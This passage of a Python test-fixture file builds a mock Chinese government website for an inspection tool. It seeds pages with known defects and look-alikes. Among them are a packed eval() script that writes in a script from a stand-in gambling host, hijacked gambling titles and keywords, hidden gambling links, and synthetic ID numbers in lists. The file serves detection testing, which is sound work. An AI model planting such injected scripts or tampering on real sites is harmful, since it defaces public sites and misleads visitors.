# SPDX-License-Identifier: Apache-2.0
"""What stands on the test site: columns, articles, attachments, every defect and every harmless look-alike, and what changes on days 2 and 3."""
import datetime
import json
import os

import documents
from make_site import FIRST, GAMBLING, HERE, HIDDEN, HOSTS, ICP, JYJ, OLD, OUTSIDE, POLICE, ROOT, WWW, ZW, Column, days_before

DATE = datetime.date
NAMES = '王小明 李建国 张秀兰 陈志强 罗永芬 杨光明'.split()
REGIONS = '522301 522301 522321 522301 522325 522301'.split()
BORN = '19900307 19881112 19671204 19750623 19820119 19930830'.split()
PERMITS_SINCE = DATE(2026, 11, 20)


def identity(number):
    return documents.resident_id(REGIONS[number], BORN[number], 20 + number)


def masked(number):
    return identity(number)[:3] + '*' * 13 + identity(number)[16:]


def table(head, rows):
    cells = ''.join(f'<th>{value}</th>' for value in head)
    lines = ''.join('<tr>' + ''.join(f'<td>{value}</td>' for value in row) + '</tr>' for row in rows)
    return f'<table class="tab"><tr>{cells}</tr>{lines}</table>\n'


def fixture(path):
    with open(os.path.join(ROOT, 'corpus', path), 'rb') as file:
        return file.read()


def attach(site, article, name, data, text):
    """Puts the attachment beside its article; `article` may be a path of a folder. -> path, and the link to it"""
    folder = os.path.dirname(article.path if hasattr(article, 'path') else article) + '/'
    site.put(article.column.host if hasattr(article, 'column') else WWW, folder + name, data, site.moment(DATE(2026, 6, 1), name))
    return folder + name, f'<p>附件：<a href="{name}">{text}</a></p>\n'


def portal(site):
    """www.xingyi.test: columns of every class at their thresholds, and most of the defects."""
    today, second = site.today, site.day >= 2
    column = site.column
    news = column(WWW, '/xw/zwyw/', '政务要闻', 'dynamic', number=101)
    site.fill(news, 200, FIRST, 0.6)
    units = column(WWW, '/xw/bmdt/', '部门动态', 'dynamic', number=102)
    site.fill(units, 100, FIRST, 1.1)
    # Two weeks (warning after ten days): 14 days old is still within, 15 is not; 11 is warned of, 10 is not.
    site.fill(column(WWW, '/xw/xzdt/', '乡镇动态', 'dynamic', number=103, expect={1: '疑似', 2: '一般'}), 50, days_before(14), 2)
    site.fill(column(WWW, '/xw/tpxw/', '图片新闻', 'dynamic', number=104, expect={1: '一般', 2: '一般'}), 30, days_before(15), 3)
    site.fill(column(WWW, '/xw/jrgz/', '今日关注', 'dynamic', number=105, expect={1: '疑似', 2: '疑似'}), 30, days_before(11), 2)
    site.fill(column(WWW, '/xw/spxw/', '视频新闻', 'dynamic', number=106, expect={2: '疑似'}), 25, days_before(10), 4)
    notices = column(WWW, '/gsgg/tzgg/', '通知公告', 'announcement', number=111)
    site.fill(notices, 90, FIRST, 2.3)
    # Six months (warning after five): 24 May is still within six months of 24 November, 23 May is not.
    site.fill(column(WWW, '/gsgg/zkgs/', '招考公示', 'announcement', number=112, expect={1: '一般', 2: '一般'}), 20, DATE(2026, 5, 23), 20)
    site.fill(column(WWW, '/gsgg/cggg/', '采购公告', 'announcement', number=113, expect={1: '疑似', 2: '一般'}), 20, DATE(2026, 5, 24), 20)
    site.fill(column(WWW, '/gsgg/zjgg/', '征集公告', 'announcement', number=114, expect={1: '疑似', 2: '疑似'}), 15, DATE(2026, 6, 23), 30)
    site.fill(column(WWW, '/gsgg/rsgg/', '人事公告', 'announcement', number=115, expect={2: '疑似'}), 15, DATE(2026, 6, 24), 30)
    policy = column(WWW, '/zwgk/zcwj/', '政策文件', 'policy', number=121)
    site.fill(policy, 50, days_before(4), 9)
    site.fill(column(WWW, '/zwgk/gfxwj/', '规范性文件', 'policy', number=122, expect={1: '一般', 2: '一般'}), 20, DATE(2026, 5, 20), 30)
    site.fill(column(WWW, '/zwgk/zcjd/', '政策解读', 'policy', number=123, expect={1: '疑似', 2: '疑似'}), 25, DATE(2026, 6, 1), 20)
    # Columns with a period of their own, 90 days, warned of after 75.
    site.fill(column(WWW, '/fw/bstj/', '办事统计', 'other', number=131, days=90, warn_days=75, expect={1: '一般', 2: '一般'}), 12, days_before(91), 90)
    site.fill(column(WWW, '/fw/fwzn/', '服务指南', 'other', number=132, days=90, warn_days=75, expect={1: '疑似', 2: '一般'}), 15, days_before(90), 30)
    # Five of the first two classes that are not updated are a veto (site-stale), four are warned of: on day 1 three, on day 2 five.
    site.defect(WWW, '/', 'site-stale', '严重', '检查指标 单项否决：动态要闻类、通知公告政策文件类栏目累计5个未更新', days=(2, 3))
    for path, name, blank, number in (('/zwgk/ghjh/', '规划计划', '<p>暂无内容</p>', 141), ('/zwgk/tjxx/', '统计信息', '<p>栏目正在建设中</p>', 142)):
        column(WWW, path, name, 'other', number=number, days=365, warn_days=300, blank=blank)
        site.defect(WWW, path, 'column-blank', '一般', 'R1-11(1)、检查指标：空白栏目')
    profile = column(WWW, '/zjxy/', '走进兴义', 'evergreen', number=151)
    for index, name in enumerate(('兴义概况', '历史沿革', '地理气候', '民族风情', '旅游资源', '特色产业', '交通区位', '机构设置')):
        site.own(profile, 1510000 + index, name, DATE(2025, 3, 4), [f'{name}介绍。兴义市位于贵州省西南部，是黔西南州州府所在地。'] + site.sentences[index * 3:index * 3 + 3])
    topics = column(WWW, '/zt/2023/', '专题专栏（已归档）', 'archived', number=161)
    site.fill(topics, 40, DATE(2023, 12, 20), 5)
    content_of_portal(site, news, notices, policy, topics)
    links_of_portal(site, news, notices)
    dates_of_portal(site, news, units, notices)
    if second:
        changes_of_portal(site, news, units, notices)
    hot = ''.join(site.item(article) for article in notices.articles if article.number in (1116001, 1116002))
    traps = (f'<a href="/hd/rl/?y={today.year}&amp;m={today.month}">工作日历</a> <a href="/hd/list.html">意见征集</a> <a href="/bs/a/">办事大厅</a> '
             '<a href="/hd/zx/1.html">网上咨询</a> <a href="/hd/yy/index.html">预约</a> ') if site.traps else ''
    archive = ' <a href="/dag/">档案馆</a>' if site.archive else ''
    site.home(WWW, [news, units, notices, policy], f'<div class="box"><h2>报名进行中</h2><ul class="list">\n{hot}</ul></div>\n'
              f'<div class="box"><h2>更多</h2>{traps}<a href="/zt/gfjz/index.html">国防教育</a> <a href="/zt/ylgj/index.html">医疗改革</a> '
              '<a href="/zt/zsyz/index.html">招商引资</a> <a href="/zt/sjzd/index.html">手机站点</a> '
              '<a href="/zt/btgg/index.html">标题更改</a> <a href="/zt/yclj/index.html">隐藏链接</a> <a href="/zt/xysj/index.html">响应式专题</a> '
              '<a href="/zt/dttj/index.html">动态统计</a> <a href="/zt/fhqx/index.html">防汛抗旱</a>'
              f'<a href="/nosee/1.html">内网入口</a>{archive}</div>\n')
    # robots.txt forbids the folder: a crawler that keeps to it never learns what stands there.
    site.plain(WWW, '/nosee/1.html', '内网入口', '<p>请使用内网地址登录。</p><p>澳门新葡京娱乐城注册送彩金，真人百家乐开户</p>')


def content_of_portal(site, news, notices, policy, topics):
    """Findings of content, each by construction, and look-alikes which must not be found."""
    defect = site.defect
    article = site.own(notices, 1116101, '关于做好冬季森林防火工作的通知', days_before(12), ['各乡镇人民政府、街道办事处：', '现将工作方案印发，请结合实际抓好落实。'])
    path, link = attach(site, article, 'P020261112339.docx', documents.docx(['冬季森林防火工作方案', '一、总体要求', '坚持预防为主、积极消灭。', '二、工作措施', '加强巡护，落实责任。'],
                                                                        '机密★10年'), '冬季森林防火工作方案.docx')
    article.body += link
    defect(WWW, path, 'classified.mark', '严重', 'R2-2、R7-3：附件页眉中的国家秘密标志')
    article = site.own(policy, 1216101, '关于印发兴义市应急物资储备方案的通知', days_before(20), ['现将方案印发给你们，请遵照执行。'])
    path, link = attach(site, article, 'W020261104.ofd', documents.ofd(['兴义市应急物资储备方案', '秘密★5年', '一、总体要求', '统筹安排，合理布局。']), '方案（OFD）.ofd')
    article.body += link
    defect(WWW, path, 'classified.mark', '严重', 'R2-2、R7-3：OFD 附件中的国家秘密标志')
    inside = documents.pack([('名单/说明.txt', '本名单供核对使用。\n'.encode('gb18030')), ('名单/补助名单.csv', ('姓名,身份证号,金额\n' + ''.join(
        f'{NAMES[index]},{identity(index)},600\n' for index in range(6))).encode('gb18030'))])
    article = site.own(notices, 1116102, '关于发放冬春救助资金的公示', days_before(25), ['现将冬春救助资金发放情况予以公示，公示期为五个工作日。'])
    path, link = attach(site, article, 'mingdan.zip', inside, '救助名单.zip')
    article.body += link
    defect(WWW, path, 'personal.table-identity', '严重', 'R1-14：压缩包内 GBK 名单中的完整身份证号')
    # A hidden block behind the end of the page.
    article = site.own(topics, 1616101, '防汛减灾科普知识问答', DATE(2023, 6, 8), ['汛期来临，要及时关注天气预报。', '遇到山洪，应当向高处转移。'], tail=HIDDEN)
    defect(WWW, article.path, 'tamper.page', '严重', 'R1-16、检查指标 单项否决：隐藏的外链')
    defect(WWW, article.path, 'prohibited.6.hidden-stuffing', '疑似', 'R1-15(6)：隐藏的赌博文字')
    # A figure that nobody can have released: the month is not over.
    article = site.own(news, 1016101, '全市经济运行总体平稳', days_before(2), ['1—11月，全市规模以上工业增加值同比增长8.2%，经济运行总体平稳。', '下一步，将继续做好各项工作。'])
    defect(WWW, article.path, 'statistics.unreleased', '严重', 'R2-8(1)：未发布的经济数据')
    # Harmless, though full of the words: the law itself, police news, a masked list, attachments of each format.
    site.own(topics, 1616201, '保密法宣传：国家秘密的密级', DATE(2023, 5, 10), ['《中华人民共和国保守国家秘密法》规定，国家秘密的密级分为绝密、机密、秘密三级。', '机关、单位应当依法确定密级。'])
    site.own(topics, 1616202, '公安机关打击跨境赌博违法犯罪', DATE(2023, 9, 1), ['公安机关依法打击开设赌场、组织参与跨境赌博等违法犯罪，提醒群众不要参与网络赌博，发现线索及时举报。'])
    site.own(notices, 1116103, '2026年第三季度临时救助名单公示', days_before(40), ['现将临时救助名单公示如下。', table(('序号', '姓名', '身份证号', '金额（元）'), [
        (index + 1, NAMES[index][0] + '**', masked(index), 800) for index in range(6)])])
    for kind, article, name, data in (
            ('docx', 1116110, 'fujian1.docx', documents.docx(['申请表', '姓名：', '单位：', '申请事项：', '年　月　日'])),
            ('xlsx', 1116111, 'fujian2.xlsx', documents.xlsx([('序号', '项目名称', '金额（万元）'), (1, '农村公路养护', 120), (2, '校舍维修', 85)])),
            ('pdf', 1116112, 'fujian3.pdf', fixture('pdf/paragraphs.pdf')),
            ('ofd', 1116113, 'fujian4.ofd', documents.ofd(['关于做好农村公路养护工作的通知', '各乡镇人民政府、街道办事处：', '现将有关事项通知如下。'])),
            ('zip', 1116114, 'fujian5.zip', documents.pack([('表一.txt', '填表说明：请如实填写。\n'.encode('gb18030')), ('表二.docx', documents.docx(['登记表', '填表人：']))])),
            ('txt', 1116115, 'fujian6.txt', '填报说明\r\n请于规定时间内报送。\r\n'.encode('gb18030'))):
        made = site.own(notices, article, f'关于报送有关材料的通知（{kind}）', days_before(30 + article % 10), ['请按附件格式报送。'])
        made.body += attach(site, made, name, data, f'附件.{kind}')[1]


def links_of_portal(site, news, notices):
    """Links and attachments that are broken, wrong, expired, or only look so; traps."""
    defect = site.defect
    target = '/xw/zwyw/202610/t20261001_999999.html'
    mended = '<a href="/xw/zwyw/">相关报道</a>' if site.day == 2 else f'<a href="{target}">相关报道</a>'
    site.own(news, 1016201, '交通部门做好道路养护工作', days_before(55), ['交通部门组织力量开展养护。', f'<p>更多内容见{mended}。</p>'],
             changed=site.edited('link') if site.day > 1 else None)
    defect(WWW, target, 'link-broken', '一般', '检查指标：站内链接打不开（第二天改正，第三天重现）', days=(1, 3))
    article = site.own(notices, 1116201, '关于征集民生实事项目的通知', days_before(60), ['请填写附件中的表格。', '<p>附件：<a href="zhengji.docx">征集表.docx</a></p>'])
    defect(WWW, os.path.dirname(article.path) + '/zhengji.docx', 'attachment-broken', '一般', '检查指标：附件打不开')
    for number, name, data, what, why in (
            (1116202, 'empty.pdf', b'', 'attachment-broken', '附件为空'),
            (1116203, 'biaoge.doc', '<html><body><p>请先登录系统后下载。</p></body></html>'.encode(), 'attachment-mismatch', '附件内容与扩展名不符：.doc 实为网页'),
            (1116204, 'shuoming.docx', fixture('ooxml/truncated.docx'), 'attachment-broken', '附件损坏'),
            (1116205, 'jiami.zip', fixture('archive/encrypted.zip'), 'attachment-encrypted', '附件设有密码，公众无法打开')):
        article = site.own(notices, number, f'关于填报年度统计台账的通知之{number % 10}', days_before(70 + number % 10), ['请下载附件。'])
        path, link = attach(site, article, name, data, f'附件{os.path.splitext(name)[1]}')
        article.body += link
        defect(WWW, path, what, '一般', f'检查指标：{why}')
    site.own(news, 1016202, '教育考试服务平台上线', days_before(80), ['考生可登录<a href="http://jyks.qxn.test/">黔西南教育考试服务平台</a>查询。'.join(('<p>', '</p>'))])
    defect(WWW, 'http://jyks.qxn.test/', 'outside-wrong', '严重', '检查指标 单项否决：外链已成赌博网站')
    site.own(news, 1016203, '旅游资讯网改版', days_before(85), ['<p>市民可浏览<a href="http://lvyou.qxn.test/">黔西南旅游资讯网</a>、<a href="http://gone.xingyi.invalid/">兴义旅游论坛</a>、'
                                                    '<a href="http://closed.qxn.test/">景区预约网</a>和<a href="http://lib.qxn.test/none.html">图书馆活动页</a>，'
                                                    '也可浏览<a href="http://lib.qxn.test/">黔西南州图书馆</a>。</p>'])
    for url, why in (('http://lvyou.qxn.test/', '域名出售页'), ('http://gone.xingyi.invalid/', '域名已不存在'), ('http://closed.qxn.test/', '拒绝连接'),
                     ('http://lib.qxn.test/none.html', '404')):
        defect(WWW, url, 'outside-expired', '一般', f'检查指标：失效外链，{why}')
    site.own(news, 1016204, '政务服务中心调整办公时间', days_before(88), ['<p>详见<a href="/soft/notice-2019.html">原通知</a>、<a href="/tz/loop1">办事须知</a>、'
                                                     '<a href="/tz/out">国务院部署</a>、<a href="/tz/inside">监控大屏</a>和<a href="/tz/chain1">服务目录</a>。</p>'])
    defect(WWW, '/soft/notice-2019.html', 'soft-404', '一般', '检查指标：页面不存在却返回 200')
    defect(WWW, '/tz/loop1', 'link-broken', '一般', '检查指标：重定向成环')
    defect(WWW, '/tz/inside', 'redirect-private', '一般', '重定向到内网地址，不得跟随')
    site.own(news, 1016205, '工作动态汇编', days_before(90), ['<p>见<a href="/dyn/busy/1.html">汇编一</a>、<a href="/dyn/busy/2.html">汇编二</a>、<a href="/dyn/etag.html">汇编三</a>。</p>'])
    # Pages of the dynamic server. Those of /zt/ change with who asks.
    for path, why in (('/zt/gfjz/index.html', '对搜索引擎（User-Agent）另给赌博内容'), ('/zt/ylgj/index.html', '对来自搜索引擎的访问（Referer）跳转到站外'),
                      ('/zt/zsyz/index.html', '对手机访问跳转到站外'), ('/zt/btgg/index.html', '对搜索引擎另给标题'),
                      ('/zt/yclj/index.html', '对来自搜索引擎的访问另给隐藏的外链')):
        defect(WWW, path, 'cloaked', '严重', f'R1-16：{why}')
    # Only the sitemap knows this page.
    site.plain(WWW, '/zt/2021/old-topic.html', '庆祝活动专题', '<p>专题内容。</p>', site.moment(DATE(2021, 7, 1), 'topic'))
    defect(WWW, '/zt/2021/old-topic.html', 'page-unlinked', '疑似', 'R1-16：站内没有链接指向的页面')


def dates_of_portal(site, news, units, notices):
    defect, evening = site.defect, datetime.datetime(2026, 11, 23, 21, 40, tzinfo=datetime.timezone(datetime.timedelta(hours=8)))
    for number, day in ((1016301, DATE(2026, 10, 9)), (1016302, DATE(2026, 10, 16)), (1016303, DATE(2026, 10, 21))):
        article = site.ordinary(news, number, day, changed=evening)
        defect(WWW, article.path, 'date-forged', '疑似', '检查指标 单项否决（弄虚作假）：Last-Modified 2026-11-23 晚于所示日期一个月以上')
    article = site.ordinary(news, 1016304, DATE(2026, 12, 5), changed=site.moment(FIRST, 'future'))
    defect(WWW, article.path, 'date-future', '一般', 'R1-10(2)：发布日期在将来')
    article = site.own(notices, 1116301, '关于节约用水的通告', DATE(2026, 11, 3), ['现就节约用水有关事项通告如下。', '各单位要落实节水措施。', '<p align="right">兴义市水务局<br>2026年11月10日</p>'])
    defect(WWW, article.path, 'date-before-document', '疑似', 'DOMAIN 6.4：发布日期早于成文日期')
    for number, published, last, expect in ((1116001, DATE(2026, 11, 2), '2026年11月15日', (1, 2, 3)), (1116002, DATE(2026, 11, 10), '2026年11月24日', (2, 3))):
        article = site.own(notices, number, '社区工作者招聘公告' if number == 1116001 else '青少年科技活动报名公告', published, [
            '报名采取现场报名方式进行。', f'报名截止时间：{last}。', '报名地点：兴义市政务服务中心。'])
        defect(WWW, article.path, 'notice-expired', '一般', 'R1-10(2)：首页“报名进行中”所列公告报名已截止', days=expect)
    # The list of a column says of one article that it is four days younger than it is.
    bumped = next(article for article in units.articles if article.number == 1024990)
    bumped.listed_as = bumped.published + datetime.timedelta(days=4)
    defect(WWW, units.path, 'list-dates', '疑似', '检查指标 单项否决（弄虚作假）：列表所示日期与文章不一致')
    # The same in the archive of the column, to which nothing on the home page leads, is harmless.
    site.own(notices, 1116003, '公益性岗位招聘公告', DATE(2026, 7, 2), ['报名截止时间：2026年7月10日。'])
    lacking = (('PubDate', site.ordinary(news, 1016305, days_before(33), lacks=('PubDate',))), ('ArticleTitle', site.ordinary(notices, 1116302, days_before(34), lacks=('ArticleTitle',))))
    for name, article in lacking:
        defect(WWW, article.path, 'metadata-missing', '一般', f'检查指标：缺少元数据 {name}')


def changes_of_portal(site, news, units, notices):
    """Days 2 and 3, beside what the days themselves change."""
    today, defect = site.date(2), site.defect
    for column in (news, units, notices):
        for index in range(2):
            site.ordinary(column, column.number * 10000 + 5001 + index, today)
    article = site.ordinary(news, 1015010, today)
    defect(WWW, article.path, 'permit-missing', '一般', 'R7-3：未经审查的页面（没有放行记录）')
    site.unpermitted.append(article.path)
    # Deleted, one of them still linked from a page that stands.
    gone = [article for article in units.articles if article.number in (1024960, 1024961, 1024962)]
    units.articles = [article for article in units.articles if article not in gone]
    site.own(units, 1026001, '部门工作信息汇总', today, [f'<p>转载自<a href="{gone[0].path}">部门动态</a>。</p>'])
    defect(WWW, gone[0].path, 'link-broken', '一般', '检查指标：被引用的页面已删除')
    changed = next(article for article in news.articles if article.number == 1014980)
    changed.title += '（修订）'
    changed.changed = site.moment(today, 'retitled')
    defect(WWW, changed.path, 'title-changed', '疑似', 'R1-16(2)：标题改变而没有放行记录')
    # On day 3 the hidden block and the changed script are gone again, and two more articles have come.
    hidden = next(article for article in news.articles if article.number == 1014970)
    hidden.tail, hidden.changed = '' if site.day == 3 else HIDDEN, site.edited('hidden')
    defect(WWW, hidden.path, 'hidden-new', '严重', 'R1-16：新出现的隐藏块', days=(2,))
    defect(WWW, hidden.path, 'tamper.page', '严重', 'R1-16、检查指标 单项否决：隐藏的外链', days=(2,))
    defect(WWW, hidden.path, 'prohibited.6.hidden-stuffing', '疑似', 'R1-15(6)：隐藏的赌博文字', days=(2,))
    for what, severity in (('script-changed', '严重'), ('tamper.page', '严重'), ('prohibited.6.hidden-stuffing', '疑似'), ('prohibited.6.words', '疑似')):
        defect(WWW, '/js/site.js', what, severity, 'R1-15(6)、R1-16：脚本被改，写出隐藏的赌博链接', days=(2,))
    single = site.ordinary(notices, 1115030, DATE(2026, 10, 20), changed=site.moment(DATE(2026, 10, 20), 'single'))
    defect(WWW, single.path, 'date-forged', '疑似', '检查指标 单项否决（弄虚作假）：首次出现于 11 月 25 日，所示日期为 10 月 20 日')
    redated = next(article for article in units.articles if article.number == 1024985)
    redated.published = redated.listed_as = today
    redated.changed = site.moment(today, 'redated')
    defect(WWW, redated.path, 'date-changed', '疑似', '检查指标 单项否决（弄虚作假）：11 月 24 日就有的文章改为 11 月 25 日发布，内容未改')
    for index in range(2 if site.day == 3 else 0):
        site.ordinary(news, 1015101 + index, site.date(3))


def disclosure(site):
    """zw.xingyi.test, all in GBK: half of the pages of the site."""
    defect, second = site.defect, site.day >= 2
    names = ('机构职能 规划信息 财政预决算 行政许可 行政处罚 重大项目 公共资源 社会保障 医疗卫生 教育信息 环境保护 安全生产 食品药品 征地拆迁 扶贫信息 '
             '价格收费 建议提案 应急管理 政府采购 人事信息 国有资产 社会救助 公共文化 市场监管 依法行政').split()
    columns = []
    for index, name in enumerate(names):
        kind = 'policy' if index % 3 else 'announcement'
        made = site.column(ZW, f'/xxgk/{1001 + index}/', name, kind, number=1001 + index)
        site.fill(made, 38, days_before(index * 2 + 1), 17)
        columns.append(made)
    article = site.own(columns[7], 10086101, '城乡居民基本养老保险待遇核定公示', days_before(18), ['现将核定结果公示如下。'])
    if site.day != 2:
        article.body += table(('序号', '姓名', '身份证号', '金额（元）'), [(index + 1, NAMES[index], identity(index), 1200 + index) for index in range(6)])
        defect(ZW, article.path, 'personal.table-identity', '严重', 'R1-14：公示表格中的完整身份证号（第二天改正，第三天重现）', days=(1, 3))
    else:
        article.body += table(('序号', '姓名', '身份证号', '金额（元）'), [(index + 1, NAMES[index], masked(index), 1200 + index) for index in range(6)])
    if second:
        article.changed = site.edited('table')
    article = site.own(columns[8], 10096101, '医疗机构设置规划', days_before(22), ['<p>内部资料　注意保存</p>', '现将医疗机构设置规划印发。', '各单位要认真落实。'])
    defect(ZW, article.path, 'internal.mark', '严重', 'R6-6(5)：内部资料标志')
    article = site.own(columns[10], 10116101, '环境保护宣传月活动方案', DATE(2025, 6, 3), ['开展环境保护宣传活动。'], page_title='澳门新葡京娱乐城_真人百家乐_时时彩开户注册送彩金',
                       head='<meta name="keywords" content="澳门新葡京,真人百家乐,时时彩平台,棋牌游戏,注册送58">\n')
    for rule, severity in (('tamper.page', '严重'), ('prohibited.6.stuffing', '严重'), ('prohibited.6.topics', '疑似')):
        defect(ZW, article.path, rule, severity, 'R1-15(6)、R1-16：标题和关键词被劫持')
    article = site.own(columns[19], 10206101, '事业单位工作人员录用公示', days_before(28), ['现将拟录用人员予以公示。'])
    rows = [('姓名', '身份证号', '岗位')] + [(NAMES[index], identity(index), '管理岗') for index in range(6)]
    path, link = attach(site, article, 'renyuan.xlsx', documents.xlsx(rows), '拟录用人员名单.xlsx')
    article.body += link
    defect(ZW, path, 'personal.table-identity', '严重', 'R1-14：附件名单中的完整身份证号')
    article = site.own(columns[17], 10186101, '应急值守工作安排', days_before(31), ['各单位要严格落实值守制度。'])
    path, link = attach(site, article, 'anpai.txt', '机密★20年\r\n应急值守工作安排\r\n一、严格值守。\r\n'.encode('gb18030'), '安排.txt')
    article.body += link
    defect(ZW, path, 'classified.mark', '严重', 'R2-2、R7-3：GBK 文本附件中的国家秘密标志')
    # The server says UTF-8 here, which browsers believe more than the page: GBK.
    article = site.own(columns[24], 10256101, '行政规范性文件清理结果', days_before(45), ['<p>内部资料　注意保存</p>', '现将清理结果公布如下。'], path='/lie/1.htm')
    defect(ZW, article.path, 'charset-wrong', '一般', '响应头声明的字符集与内容不符')
    defect(ZW, article.path, 'internal.mark', '严重', 'R6-6(5)：内部资料标志，在字符集声明有误的页面中')
    # What a program made of a text in GBK before it was published: nobody can read it, whatever the charset.
    article = site.own(columns[24], 10256103, '行政许可事项目录调整', days_before(47), ['现将目录公布如下。', '锟斤拷锟斤拷锟斤拷目录锟斤拷锟斤拷'])
    defect(ZW, article.path, 'quality.mojibake', '一般', '乱码：正文在发布前已被错误转码，字符集本身没有错')
    # 治安势必 holds the bytes of 彩票 across its characters in GBK.
    site.own(columns[24], 10256102, '社会治安综合治理工作要点', days_before(50), ['加强社会治安势必要求各单位协同配合。'])
    if second:
        for column in columns[:6]:
            site.ordinary(column, column.number * 10000 + 5001, site.date(2))
        columns[2].head = '<script src="http://cdn.jsq-stat.test/tj.js"></script>\n'
        defect(ZW, columns[2].path, 'script-new', '严重', 'R1-16：新出现的站外脚本')
        defect(ZW, columns[2].path, 'outside-host-new', '疑似', 'R1-16：新出现的站外主机 cdn.jsq-stat.test')
    site.home(ZW, columns[:8])


def education(site):
    defect, second = site.defect, site.day >= 2
    news = site.column(JYJ, '/xw/', '教育要闻', 'dynamic', number=301)
    site.fill(news, 50, FIRST, 1.5)
    notices = site.column(JYJ, '/gg/', '通知公告', 'announcement', number=302)
    site.fill(notices, 35, days_before(1), 5)
    exams = site.column(JYJ, '/ks/', '招生考试', 'announcement', number=303)
    site.fill(exams, 25, days_before(3), 8)
    article = site.own(notices, 3026101, '关于规范校外培训的通告', DATE(2026, 3, 3), ['未经教育行政部门审批，不得开展学科类培训；重大事项报经5365首页发布。'])
    defect(JYJ, article.path, 'tamper.brand', '严重', 'R1-16：机关名、站名被博彩品牌替换')
    packed = ("eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
              "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\"<2 3=4://5.6.7/8.9></2>\")',10,10,'document|write|script|src|http|www|5566bet|test|x|js'.split('|'),0,{}))")
    article = site.own(news, 3016101, '中小学开展阅读活动', DATE(2026, 2, 11), ['全市中小学开展阅读活动。'], head='' if second else f'<script>{packed}</script>\n',
                       changed=site.moment(site.date(2), 'mended') if second else None)
    defect(JYJ, article.path, 'tamper.page', '严重', 'R1-16：打包的脚本写出站外脚本（第二天已改正）', days=(1,))
    article = site.own(exams, 3036101, '幼儿园教师资格面试安排', DATE(2026, 4, 9), ['请考生按时参加面试。'])
    path, link = attach(site, article, 'mianshi.pdf', fixture('tables/persons-text-ruled.pdf'), '面试人员名单.pdf')
    article.body += link
    for rule, severity, what in (('personal.table-identity', '严重', '完整身份证号'), ('personal.table-phones', '严重', '个人手机号'), ('personal.table-addresses', '疑似', '详细住址')):
        defect(JYJ, path, rule, severity, f'R1-14：PDF 名单中的{what}')
    for number, path, rule, why in ((3036102, 'lists/list.doc', 'personal.table-identity', 'R1-14：doc 附件'), (3036103, 'lists/list.rtf', 'personal.table-identity', 'R1-14：rtf 附件'),
                                    (3036104, 'lists/list.xls', 'personal.table-identity', 'R1-14：xls 附件'), (3036105, 'ole/pieces.wps', 'classified.mark', 'R2-2：wps 附件'),
                                    (3036106, 'demo/upload/2023/huibao.pptx', 'internal.mark', 'R6-6(5)：pptx 附件备注中的内部资料'), (3036107, 'archive/plain.7z', 'classified.mark', 'R2-2：7z 附件'),
                                    (3036108, 'ofd/pitch.ofd', 'classified.mark', 'R2-2：OFD 附件，字距分散')):
        article = site.own(exams, number, f'关于考务工作有关表格的通知（{number % 100}）', DATE(2026, 3, number % 100), ['请下载附件。'])
        path, link = attach(site, article, os.path.basename(path), fixture(path), '附件' + os.path.splitext(path)[1])
        article.body += link
        defect(JYJ, path, rule, '严重', why)
    article = site.own(notices, 3026102, '校园安全工作部署', DATE(2026, 5, 6), ['<p>机密★10年</p>', '各学校要落实安全责任。'])
    defect(JYJ, article.path, 'classified.mark', '严重', 'R2-2、R7-3：国家秘密标志')
    article = site.ordinary(news, 3016102, days_before(1))
    site.unpermitted.append(article.path)
    defect(JYJ, article.path, 'permit-missing', '一般', 'R7-3：未经审查的页面（没有放行记录）')
    if second:
        site.ordinary(news, 3015001, site.date(2))
        # Eight at once, dated back over two months.
        for index in range(8):
            day = DATE(2026, 9, 24) + datetime.timedelta(days=index * 7)
            article = site.ordinary(notices, 3025001 + index, day, changed=site.moment(day, f'forged{index}'))
            defect(JYJ, article.path, 'date-forged', '严重', f'检查指标 单项否决（弄虚作假）：8 个页面同日首次出现，所示日期分散于两个月，此页 {day}')
        framed = next(article for article in exams.articles if article.number == 3034990)
        framed.body += '<iframe src="http://video.kan.test/p.html" width="600" height="400"></iframe>\n' if site.day == 2 else ''
        framed.changed = site.edited('framed')
        defect(JYJ, framed.path, 'frame-new', '严重', 'R1-16：新出现的站外框架（第三天已去掉）', days=(2,))
        defect(JYJ, framed.path, 'outside-host-new', '疑似', 'R1-16：新出现的站外主机 video.kan.test（第三天已去掉）', days=(2,))
        exams.page_title, exams.head = '时时彩平台_澳门新葡京_真人百家乐_注册送彩金', '<!-- -->\n'
        defect(JYJ, exams.path, 'title-changed', '严重', 'R1-16：栏目页标题被改')
        for rule, severity in (('tamper.page', '严重'), ('prohibited.6.stuffing', '严重'), ('prohibited.6.topics', '疑似')):
            defect(JYJ, exams.path, rule, severity, 'R1-15(6)、R1-16：标题被劫持')
    site.home(JYJ, [news, notices, exams])


def abandoned(site):
    """old.xingyi.test: nobody looks after it."""
    past = site.column(OLD, '/lsdt/', '往期动态', 'archived', number=401)
    site.fill(past, 40, DATE(2026, 11, 8), 12)
    papers = site.column(OLD, '/lswj/', '往期文件', 'archived', number=402)
    site.fill(papers, 25, DATE(2026, 8, 20), 30)
    site.own(past, 4016101, '旧版网站使用说明', DATE(2020, 3, 3), ['<p>见<a href="/html/2018/none.html">说明</a>。</p>'])
    site.defect(OLD, '/html/2018/none.html', 'soft-404', '一般', '检查指标：页面不存在却返回 200（整站如此）')
    site.home(OLD, [past, papers])
    site.defect(OLD, '/', 'home-stale', '严重', '检查指标 单项否决：首页两周无信息更新（最新 2026-11-08）')
    for what, why in (('identifier-missing', '网站标识码'), ('icp-missing', 'ICP 备案号'), ('police-filing-missing', '公安备案号'), ('report-error-entry-missing', '“我为政府网站找错”入口'),
                      ('conac-missing', '党政机关网站标识')):
        site.defect(OLD, '/', what, '一般', f'检查指标、DOMAIN 6.4：页脚缺少{why}')


def outside(site):
    """The hosts that are not the city's, which nginx serves on a port of their own."""
    for name, title in OUTSIDE.items():
        body = f'<p>{GAMBLING}</p>' if name in ('jyks.qxn.test', 'www.5566bet.test', 'kk.8888yl.test') else '<p>首页</p>'
        site.put(name, '/', f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title></head><body>{body}</body></html>'.encode(), site.moment(DATE(2026, 1, 1), name))
    for name, path, data in (('dcs.conac.cn', '/js/25/366/0000/60453210/CA253660000604532100001.js', b'var conac=1;\n'), ('cdn.jsq-stat.test', '/tj.js', b'var tj=1;\n'),
                             ('www.beian.gov.cn', '/portal/registerSystemInfo', b'<html><head><title>police</title></head></html>'),
